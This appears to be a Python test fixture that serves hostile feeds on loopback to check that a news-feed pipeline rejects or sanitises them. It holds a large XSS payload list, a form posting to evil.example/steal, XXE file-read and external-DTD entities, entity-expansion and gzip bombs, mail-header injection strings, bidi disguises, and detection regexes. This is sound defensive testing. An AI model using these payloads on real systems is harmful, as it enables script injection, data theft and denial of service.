"""Hostile feeds on loopback: every attack and kind of garbage the open internet can send, served
by a ``FeedServer`` so tests run the real fetch ─► parse ─► store ─► publish ─► digest path.

``install(server, workdir)`` programs the server and returns one ``Attack`` per source: its name,
URL and what must happen to it (``ok``: ingested; ``error``: recorded with an error containing
``error``; ``any``: either, as long as it is one of the two). ``assert_safe_html``,
``assert_safe_text`` and ``dangerous_strings`` check outputs; they are shared by the tests.

Usable by hand::

    with FeedServer() as srv:
        for a in install(srv, Path("/tmp")):
            print(a.name, a.url)
"""

from __future__ import annotations

import codecs
import hashlib
import html
import re
from dataclasses import dataclass
from pathlib import Path

from lxml import etree
from lxml import html as lxml_html

from .feedserver import FeedServer

SECRET = "HOSTILE-SECRET-7f3a9c"  # content of the local file the file:// entity points at
LAUGH = "LOL-LOL-LOL"  # what entity expansion would produce
CANARY_PATHS = ("/xxe/canary", "/xxe/evil.dtd", "/xxe/param.dtd")  # must never be requested

RSS_HEAD = (
    '<?xml version="1.0" encoding="utf-8"?>\n'
    '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
    'xmlns:media="http://search.yahoo.com/mrss/" xmlns:dc="http://purl.org/dc/elements/1.1/">'
    "<channel><title>{title}</title><link>https://hostile.example/</link>"
    "<description>hostile</description>\n"
)
RSS_TAIL = "</channel></rss>\n"


@dataclass(frozen=True)
class Attack:
    name: str
    url: str
    expect: str = "ok"  # ok | error | any
    error: str = ""  # substring of last_error when expect == "error"
    tags: tuple[str, ...] = ("ai", "africa")  # so every survivor reaches every output


# --------------------------------------------------------------------------- building blocks


def rss(items: str, title: str = "Hostile") -> str:
    return RSS_HEAD.format(title=title) + items + RSS_TAIL


def item(
    title: str,
    guid: str | None = None,
    link: str | None = "",
    date: str | None = "Mon, 23 Nov 2026 08:00:00 GMT",
    body: str = "",
) -> str:
    """One RSS item; by default its link and body are its own (no two items cluster together,
    so every hostile item reaches the outputs as a story of its own)."""
    tag = guid or hashlib.sha1(title.encode()).hexdigest()[:12]
    link = f"https://hostile.example/item/{tag}" if link == "" else link
    body = body or f"<p>Body of {tag} about AI in Africa: {' '.join(tag)}.</p>"
    parts = [f"<title>{title}</title>"]
    if guid is not None:
        parts.append(f"<guid isPermaLink='false'>{guid}</guid>")
    if link is not None:
        parts.append(f"<link>{link}</link>")
    if date is not None:
        parts.append(f"<pubDate>{date}</pubDate>")
    parts.append(f"<description><![CDATA[{body}]]></description>")
    return "<item>" + "".join(parts) + "</item>\n"


#: Active content, one piece per line: every one must be gone from every output.
DANGEROUS_HTML = [
    "<script>alert('s1')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert('s2')</script>",
    "<img src=x onerror=\"alert('e1')\">",
    "<p onclick=alert(1) ONMOUSEOVER=alert(2)>handlers</p>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert('j1')\">j1</a>",
    "<a href=\" JaVaScRiPt:alert('j2')\">j2</a>",
    "<a href=\"java&#x09;script:alert('j3')\">tab</a>",
    "<a href=\"java&#09;script:alert('j3b')\">tab2</a>",
    "<a href=\"jav&#x0A;ascript:alert('j3c')\">newline</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('j4')\">ent</a>",
    "<a href=\"&#x6A;avascript&colon;alert('j5')\">colon</a>",
    "<a href=\"&#x01;javascript:alert('j6')\">ctl</a>",
    "<a href=\"&#0000106avascript:alert('j7')\">noterm</a>",
    "<a href=\"vbscript:msgbox('v1')\">vb</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<img src=`javascript:alert('bt')`>",
    '<iframe src="https://evil.example/frame"></iframe>',
    '<object data="https://evil.example/x.swf"><param name=a value=b></object>',
    '<embed src="https://evil.example/x.swf">',
    (
        '<form action="https://evil.example/steal"><input name=p><button formaction='
        '"javascript:alert(1)">go</button></form>'
    ),
    "<div style=\"width: expression(alert('x1'))\">expr</div>",
    "<div style=\"background:url(javascript:alert('x2'))\">bg</div>",
    "<style>@import 'javascript:alert(1)'; body{x:expression(alert(1))}</style>",
    (
        "<svg><script>alert('svg1')</script><a xlink:href=\"javascript:alert('svg2')\">"
        "<text>t</text></a></svg>"
    ),
    "<svg/onload=alert('svg3')>",
    "<math><a xlink:href=\"javascript:alert('m1')\">m</a></math>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>',
    "<video poster=javascript:alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>d</details>",
    '<a href="https://ok.example/\u202egnp.exe">\u202etxt.exe</a>',
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]
DANGEROUS_LINKS = [
    "javascript:alert(1)",
    " JAVASCRIPT:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "jav&#x0D;ascript:alert(1)",
]


def xss_rss() -> str:
    """XSS in every field an RSS item has, including the channel link and enclosures."""
    body = "\n".join(DANGEROUS_HTML)
    cdata_body = body.replace("]]>", "]]]]><![CDATA[>")
    items = []
    for n, link in enumerate(DANGEROUS_LINKS):
        t = html.escape(f"<script>alert('t{n}')</script>XSS title {n} <img src=x onerror=alert(1)>")
        items.append(
            "<item>"
            f"<title>{t}</title>"
            f"<link>{link}</link>"
            f"<guid isPermaLink='true'>{link}</guid>"
            f"<description><![CDATA[{cdata_body}]]></description>"
            f"<content:encoded><![CDATA[{cdata_body}]]></content:encoded>"
            f"<dc:creator>{html.escape('<script>alert(1)</script>Mallory')}</dc:creator>"
            f"<category>{html.escape('<img src=x onerror=alert(1)>cat')}</category>"
            f'<enclosure url="{link}" type="audio/mpeg" length="1"/>'
            f'<media:content url="{link}" medium="image"/>'
            "<pubDate>Mon, 23 Nov 2026 08:00:00 GMT</pubDate>"
            "</item>\n"
        )
    # double-escaped markup in a title: after one decoding it *looks* like a tag
    items.append(item("&amp;lt;script&amp;gt;alert('dbl')&amp;lt;/script&amp;gt;Double escaped",
                      guid="dbl", link="https://hostile.example/dbl"))  # fmt: skip
    # a relative link with a javascript: base cannot become javascript:
    items.append(item("Relative", guid="rel", link="/relative/path"))
    head = RSS_HEAD.format(title=html.escape("<script>alert('chan')</script>Hostile channel"))
    head = head.replace(
        "<link>https://hostile.example/</link>", "<link>javascript:alert('c')</link>"
    )
    return head + "".join(items) + RSS_TAIL


def xss_atom() -> str:
    """Atom: xhtml titles and content with live elements, xml:base tricks, odd link rels."""
    xhtml = '<div xmlns="http://www.w3.org/1999/xhtml">{}</div>'
    body = (
        "<script>alert('a1')</script><p onclick='alert(2)'>atom body about AI in Africa</p>"
        "<a href='javascript:alert(3)'>j</a><iframe src='https://evil.example/'/>"
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        "<script>alert('a4')</script><a xlink:href='javascript:alert(5)'><text>x</text></a></svg>"
        "<form action='https://evil.example/'><input/></form>"
    )
    entry = (
        "<entry{base}><id>{id}</id><updated>2026-11-23T08:00:00Z</updated>"
        '<title type="xhtml">'
        + xhtml.format("<script>alert('at')</script>Atom <b>bold</b> title")
        + "</title>"
        '<link rel="alternate" href="{href}"/>'
        '<link rel="enclosure" href="javascript:alert(6)" type="audio/mpeg"/>'
        "<author><name>&lt;img src=x onerror=alert(1)&gt;Eve</name>"
        "<uri>javascript:alert(7)</uri></author>"
        '<summary type="html">' + html.escape(body) + "</summary>"
        '<content type="xhtml">' + xhtml.format(body) + "</content>"
        "</entry>\n"
    )
    entries = [
        entry.format(base="", id="urn:x:1", href="javascript:alert(8)"),
        entry.format(base=' xml:base="javascript:alert(9)//"', id="urn:x:2", href="rel/link"),
        entry.format(base="", id="urn:x:3", href="data:text/html,<script>alert(1)</script>"),
    ]
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="javascript:alert(10)//">'
        '<title type="html">&lt;script&gt;alert(1)&lt;/script&gt;Atom hostile</title>'
        '<link href="javascript:alert(11)"/><id>urn:x</id><updated>2026-11-23T08:00:00Z</updated>\n'
        + "".join(entries)
        + "</feed>\n"
    )


def disguise_rss() -> str:
    """Bidi overrides, zero-width characters and CR/LF/control characters in titles (mail
    headers), raw and as character references."""
    titles = [
        "Invoice \u202egpj.exe Morocco AI",  # raw RLO
        "Bank&#x202E;moc.elgoog&#x202C; login",  # as a reference
        "pay\u200bpal\u2060.com \u2066isolate\u2069 \ufeffBOM",
        "Subject line&#13;&#10;Bcc: victim@example.org&#13;&#10;&#13;&#10;body",
        "Tabs\tand&#x0B;vertical&#x0C;feeds&#x85;NEL&#x2028;LS&#x2029;PS",
        "=?utf-8?q?=0D=0ABcc:_victim@example.org?= encoded word",
        "Escape &#x1B;[31m red &#x7F; DEL &#x9B; CSI",
    ]
    items = "".join(
        item(t, guid=f"d{i}", link=f"https://hostile.example/d{i}?x=\u202e&y=%E2%80%AE",
             body=f"<p>Disguise {i}: {f'word{i} ' * 5}</p>")
        for i, t in enumerate(titles)
    )  # fmt: skip
    # link text of a link in the body, disguised
    items += item("Link text", guid="dl", body='<a href="https://evil.example/">'
                  "https://good.example/\u202e\u200b</a>")  # fmt: skip
    return rss(items)


def raw_controls() -> bytes:
    """Raw C0 controls (illegal in XML 1.0): the strict reader fails, the loose one must cope."""
    doc = rss(item("Raw\x01control\x1b[2Jchars\x07 AI", guid="rc1")
              + item("Second\x00NUL\r\nBcc: x@example.org", guid="rc2"))  # fmt: skip
    return doc.encode("utf-8")


def billion_laughs() -> str:
    ents = ['<!ENTITY lol0 "' + LAUGH + '">']
    ents += [f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(1, 10)]
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n'
        + "\n".join(ents)
        + "\n]>\n"
        + rss(item("&lol9;", guid="bl"))[len('<?xml version="1.0" encoding="utf-8"?>\n') :]
    )


def quadratic_blowup() -> str:
    big = "Q" * 50_000
    refs = "&big;" * 20_000
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY big "{big}">]>\n'
        + rss(item(f"quad {refs}", guid="qb"))[len('<?xml version="1.0" encoding="utf-8"?>\n') :]
    )


def external_entities(server: FeedServer, secret_file: Path) -> dict[str, str]:
    strip = len('<?xml version="1.0" encoding="utf-8"?>\n')
    canary = server.url("xxe/canary")
    return {
        "xxe-file": (
            f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret_file}">]>\n'
            + rss(item("file &xxe; entity", guid="xf", body="<p>&xxe;</p>"))[strip:]
        ),
        "xxe-http": (
            f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{canary}">]>\n'
            + rss(item("http &xxe; entity", guid="xh"))[strip:]
        ),
        "xxe-dtd": (
            f'<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "{server.url("xxe/evil.dtd")}">\n'
            + rss(item("external dtd &ext;", guid="xd"))[strip:]
        ),
        "xxe-param": (
            '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY % p SYSTEM '
            f'"{server.url("xxe/param.dtd")}"> %p;]>\n'
            + rss(item("parameter entity", guid="xp"))[strip:]
        ),
    }


def many_items(n: int = 50_000) -> str:
    parts = [RSS_HEAD.format(title="Many")]
    for i in range(n):
        day = 1 + i % 28
        parts.append(
            f"<item><title>Item {i} AI Africa</title><link>https://many.example/{i}</link>"
            f"<guid>m{i}</guid><pubDate>{day:02d} Nov 2026 {i % 24:02d}:00:00 GMT</pubDate>"
            f"<description>n {i}</description></item>\n"
        )
    parts.append(RSS_TAIL)
    return "".join(parts)


def garbage_items() -> str:
    """Duplicate guids, items without guid/link/date, dates in 1970 and 2099, a huge title."""
    return rss(
        item("Dup first", guid="dup", link="https://hostile.example/dup1")
        + item("Dup second", guid="dup", link="https://hostile.example/dup2")
        + item("No guid", guid=None, link="https://hostile.example/noguid")
        + item("No link", guid="nolink", link=None)
        + item("No date", guid="nodate", date=None)
        + item("Nothing at all", guid=None, link=None, date=None)
        + item("", guid=None, link=None, date=None, body="<p>only a body</p>")
        + item("Epoch", guid="epoch", date="Thu, 01 Jan 1970 00:00:00 GMT")
        + item("Future", guid="future", date="Fri, 01 Jan 2099 00:00:00 GMT")
        + item("Garbage date", guid="gd", date="the 32nd of Smarch")
    )


def huge_title() -> str:
    return rss(item("T" * 50_000 + " " + "word " * 10_000, guid="huge",
                    body="<p>" + "x" * 300_000 + "</p>"))  # fmt: skip


def _wrong_gzip(req) -> None:
    req.send_body(200, b"this is not gzip at all" * 10,
                  {"Content-Type": "application/rss+xml", "Content-Encoding": "gzip"})  # fmt: skip


def _brotli_claim(req) -> None:
    req.send_body(200, b"\x00" * 100,
                  {"Content-Type": "application/rss+xml", "Content-Encoding": "x-evil"})  # fmt: skip


def _lying_length(req) -> None:
    """Content-Length says 1 MB, the body stops after a few bytes and the connection closes."""
    req.send_response(200)
    req.send_header("Content-Type", "application/rss+xml")
    req.send_header("Content-Length", str(1 << 20))
    req.end_headers()
    req.wfile.write(rss(item("short", guid="ll")).encode()[:300])
    req.close_connection = True


# --------------------------------------------------------------------------- the catalogue


def install(server: FeedServer, workdir: Path, other: FeedServer | None = None) -> list[Attack]:
    """Program ``server`` with every attack; return the sources to configure.

    ``workdir`` receives the secret file the file:// entity points at. ``other`` (optional) is
    a second server reachable at another loopback address, for cross-host redirects."""
    secret_file = workdir / "secret.txt"
    secret_file.write_text(SECRET, encoding="utf-8")
    for path in CANARY_PATHS:
        server.put(path, f'<!ENTITY ext "{LAUGH}"><!ENTITY % q "{LAUGH}">', "application/xml-dtd")

    p = server.put
    utf8 = "application/rss+xml; charset=utf-8"
    real = (
        Path(__file__).parent.parent / "data" / "corpus" / "real" / "aljazeera_all_2026-08-13.xml"
    ).read_bytes()
    fine = rss(item("A fine feed about AI in Africa", guid="fine"))
    attacks = [
        # -- XML attacks
        Attack("billion-laughs", p("h/billion.xml", billion_laughs()), "any"),
        Attack("quadratic-blowup", p("h/quadratic.xml", quadratic_blowup()), "any"),
        *[
            Attack(name, p(f"h/{name}.xml", doc), "any")
            for name, doc in external_entities(server, secret_file).items()
        ],
        # -- transport
        Attack("gzip-bomb", server.url(f"_bomb?bytes={300 << 20}"), "error", "larger than"),
        Attack("slow-drip", server.url("_drip?bytes=100000&every=0.05"), "error", "timed out"),
        Attack(
            "drip-headers", server.url("_drip_headers?every=0.05"), "error", ""
        ),  # see test_hostile
        Attack("never-answers", server.url("_hang"), "error", "timed out"),
        Attack("redirect-loop", server.url("_loop/a"), "error", "redirect loop"),
        Attack(
            "redirect-20", server.url("_chain/302/20/h/fine.xml"), "error", "too many redirects"
        ),
        Attack("bad-gzip", server.route("h/badgzip", _wrong_gzip), "error", "decode"),
        Attack(
            "odd-encoding", server.route("h/oddenc", _brotli_claim), "error", "Content-Encoding"
        ),
        Attack("lying-length", server.route("h/lyinglength", _lying_length), "error", ""),
        Attack("http-500", server.url("_status/500"), "error", "HTTP 500"),
        # -- not feeds
        Attack(
            "html-page",
            p(
                "h/page.html",
                "<!doctype html><html><head><title>Home</title>"
                "<script>alert(1)</script></head><body><h1>Welcome</h1></body></html>",
                "text/html; charset=utf-8",
            ),
            "error",
            "not a feed",
        ),
        Attack(
            "json-feed",
            p(
                "h/feed.json",
                '{"version": "https://jsonfeed.org/version/1.1", '
                '"title": "J", "items": [{"id": "1", "url": "https://j.example/1", '
                '"title": "<script>x</script>JSON story", "content_html": '
                '"<img src=x onerror=alert(1)><p>Body</p>"}]}',
                "application/feed+json",
            ),
            "ok",
        ),
        Attack(
            "json-broken",
            p(
                "h/broken.json",
                '{"version": "https://jsonfeed.org/version/1.1", "items": [{"id"',
                "application/feed+json",
            ),
            "error",
            "not a feed: broken JSON at line 1",
        ),
        Attack(
            "json-deep",
            p(
                "h/deep.json",
                '{"items": ' + "[" * 100_000 + "]" * 100_000 + "}",
                "application/json",
            ),
            "error",
            "not a feed: JSON nested too deeply",
        ),
        Attack(
            "plain-text",
            p("h/text.txt", "Hello, this is not a feed.\n" * 20, "text/plain"),
            "error",
            "not a feed",
        ),
        Attack("empty", p("h/empty.xml", b"", utf8), "error", "empty"),
        Attack(
            "whitespace", p("h/ws.xml", b"  \r\n\t \xef\xbb\xbf \n", utf8), "error", "not a feed"
        ),
        Attack("truncated", p("h/truncated.xml", real[: len(real) // 2], utf8), "ok"),
        Attack("truncated-head", p("h/truncated2.xml", real[:200], utf8), "error", "not a feed"),
        Attack("binary", p("h/binary.xml", bytes(range(256)) * 40, utf8), "error", "not a feed"),
        # -- encodings
        Attack("utf8-bom", p("h/bom8.xml", codecs.BOM_UTF8 + fine.encode(), utf8)),
        Attack(
            "utf16-bom",
            p(
                "h/bom16.xml",
                fine.replace('"utf-8"', '"utf-16"').encode("utf-16"),
                "application/rss+xml",
            ),
        ),
        Attack("double-bom", p("h/bom2.xml", codecs.BOM_UTF8 * 2 + fine.encode(), utf8), "any"),
        Attack(
            "invalid-utf8",
            p(
                "h/badutf8.xml",
                rss(item("Bad MARK bytes AI", guid="bu"))
                .encode()
                .replace(b"MARK", b"\xff\xfe\xc3(\xed\xa0\x80"),
                utf8,
            ),
        ),
        Attack(
            "lying-charset",
            p(
                "h/liar.xml",
                rss(item("Évènement à Rabat, IA", guid="lc"))
                .replace('"utf-8"', '"iso-8859-1"')
                .encode("utf-8"),
                "application/rss+xml; charset=windows-1252",
            ),
        ),
        Attack(
            "cp1252-as-utf8",
            p("h/cp1252.xml", rss(item("Café “quoted” — IA", guid="cp")).encode("cp1252"), utf8),
        ),
        Attack(
            "utf16-claimed",
            p("h/claim16.xml", fine.replace('"utf-8"', '"utf-16"').encode(), "application/rss+xml"),
            "any",
        ),
        # -- item garbage
        Attack("garbage-items", p("h/garbage.xml", garbage_items())),
        Attack("huge-title", p("h/huge.xml", huge_title())),
        Attack("fifty-thousand", p("h/many.xml", many_items())),
        # -- active content and disguises
        Attack("xss-rss", p("h/xss.xml", xss_rss())),
        Attack("xss-atom", p("h/xss.atom", xss_atom(), "application/atom+xml")),
        Attack("disguise", p("h/disguise.xml", disguise_rss())),
        Attack("raw-controls", p("h/controls.xml", raw_controls(), utf8), "any"),
        # U+FFFE/U+FFFF (references the loose parser accepts) cannot be written to XML
        Attack(
            "not-xml-chars",
            p(
                "h/notxml.xml",
                rss(
                    item(
                        "Not XML: &#xFFFE; &#xFFFF; &#0; end",
                        guid="nx",
                        body="&#xFFFE;<p title='&#xFFFF;'>noncharacters</p>",
                    )
                ),
            ),
        ),
        Attack(
            "surrogate-ref",
            p("h/surrogate.xml", rss(item("Lone &#xD800; surrogate", guid="sr"))),
            "any",
        ),
        # -- the control: a plain good feed (also the end of the 20-hop chain)
        Attack("fine", p("h/fine.xml", fine)),
    ]
    if other is not None:
        target = f"http://127.0.0.2:{other.port}/h/fine.xml"
        attacks.append(Attack("redirect-to-refused",
                              server.url(f"_redirect/302?to={target}"), "error",
                              "refused private address 127.0.0.2"))  # fmt: skip
    return attacks


# --------------------------------------------------------------------------- output checks

_FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "button", "svg", "math", "meta", "base", "link", "style", "textarea", "select", "video",
    "audio", "details", "noscript", "template",
}  # fmt: skip
_URL_ATTRS = {"href", "src", "action", "formaction", "data", "background", "poster", "srcset",
              "xlink:href", "cite", "longdesc", "dynsrc", "lowsrc", "codebase", "content"}  # fmt: skip
_BAD_SCHEME = re.compile(r"^(?:javascript|vbscript|data|livescript|mocha):", re.IGNORECASE)
_STRIP_URL = re.compile(r"[\x00-\x20\x7f-\x9f]+")
_INVISIBLE = re.compile("[\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff]")
_RAW_TAG = re.compile(
    r"<\s*/?\s*(?:script|iframe|frame|object|embed|applet|form|svg|math|base|input|button)\b",
    re.IGNORECASE,
)
_RAW_HANDLER = re.compile(r"<[^>]*[\s/\"']on[a-z]+\s*=", re.IGNORECASE)
_TAGLIKE = re.compile(r"<\s*/?\s*[a-zA-Z!?]")


def bad_url(value: str) -> bool:
    """True for a URL a browser would run (after the decoding and stripping browsers do)."""
    v = _STRIP_URL.sub("", html.unescape(html.unescape(value)))
    return bool(_BAD_SCHEME.match(v))


def html_problems(fragment: str) -> list[str]:
    """What is active or disguising in an HTML fragment or page (empty list: safe)."""
    problems: list[str] = []
    if not fragment.strip():
        return problems
    if _INVISIBLE.search(fragment):
        problems.append(f"invisible/bidi character in {fragment[:80]!r}")
    for m in _RAW_TAG.finditer(fragment):
        problems.append(f"raw {m.group(0)!r}")
    for m in _RAW_HANDLER.finditer(fragment):
        problems.append(f"raw event handler {m.group(0)!r}")
    try:
        root = lxml_html.fragment_fromstring(fragment, create_parent="div")
    except (etree.ParserError, ValueError):
        return problems
    for el in root.iter():
        tag = el.tag if isinstance(el.tag, str) else ""
        local = tag.rsplit("}", 1)[-1].split(":")[-1].lower()
        if local in _FORBIDDEN_TAGS:
            problems.append(f"<{local}> element")
        for name, value in el.attrib.items():
            n = name.rsplit("}", 1)[-1].lower()
            if n.startswith("on"):
                problems.append(f"event handler {name}={value!r}")
            if (n in _URL_ATTRS or name.lower() in _URL_ATTRS) and bad_url(value):
                problems.append(f"{name}={value!r}")
            if n == "style" and ("expression" in value.lower() or "url(" in value.lower()):
                problems.append(f"style={value!r}")
    return problems


def string_problems(value: str, *, title: bool = False) -> list[str]:
    """Problems of one string taken from an output (an HTML fragment, a URL or plain text)."""
    problems = []
    if bad_url(value.strip()):
        problems.append(f"active URL {value[:120]!r}")
    if SECRET in value or LAUGH in value:
        problems.append(f"expanded entity in {value[:120]!r}")
    if title:
        if _TAGLIKE.search(value):
            problems.append(f"markup in a title: {value[:120]!r}")
        if _INVISIBLE.search(value) or re.search("[\x00-\x1f\x7f-\x9f]", value):
            problems.append(f"control/bidi character in a title: {value[:120]!r}")
    if "<" in value:
        problems += html_problems(value)
    elif _INVISIBLE.search(value):
        problems.append(f"invisible/bidi character in {value[:120]!r}")
    return problems
